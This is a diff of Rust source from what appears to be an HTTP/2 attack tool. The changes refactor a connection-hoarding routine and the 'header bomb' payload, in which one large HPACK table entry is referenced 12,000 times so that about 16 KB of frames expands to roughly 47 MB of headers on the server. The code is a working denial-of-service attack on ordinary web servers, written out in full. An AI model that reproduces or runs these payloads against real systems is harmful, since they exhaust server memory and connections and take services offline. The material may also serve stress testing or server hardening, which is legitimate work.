@@ -165,13 +165,12 @@ impl Attack<'_> {
     async fn hoard<T>(&self, most: usize, open: impl AsyncFn() -> Result<T>) -> Result<()> {
         let (mut held, mut failed) = (Vec::new(), 0);
         while self.goes_on() && held.len() < most {
-            match tokio::time::timeout(Duration::from_secs(2), open()).await {
-                Ok(Ok(one)) => held.push(one),
+            if let Ok(Ok(one)) = tokio::time::timeout(Duration::from_secs(2), open()).await {
+                held.push(one);
+            } else {
                 // Refused; what it was for goes on.
-                Ok(Err(_)) | Err(_) => {
-                    failed += 1;
-                    tokio::time::sleep(Duration::from_millis(1)).await;
-                }
+                failed += 1;
+                tokio::time::sleep(Duration::from_millis(1)).await;
             }
         }
         println!("  {} held, {failed} refused", held.len());
@@ -233,10 +232,10 @@ const ROWS: &[Row] = &[
         })
     }),
     ("header bomb", |a| {
-        // One entry of the table, told once, then named by one byte 16,000 times: 60 MB of head in 16 KB.
+        // One entry of the table, told once, then named by one byte (the first dynamic entry, 62) 12,000 times: 47 MB of head in 16 KB.
         let mut entry = frames::field("bomb", &[b'x'; 3900]);
         entry[0] = 0x40;
-        let head = [frames::connect(&a.authority), entry, vec![0x80 | 62; 12_000]].concat();
+        let head = [frames::connect(&a.authority), entry, vec![0xbe; 12_000]].concat();
         a.run(move || {
             a.flood(hello(), true, move |number| {
                 frame(frames::HEADERS, frames::END_HEADERS, 2 * number - 1, &head)
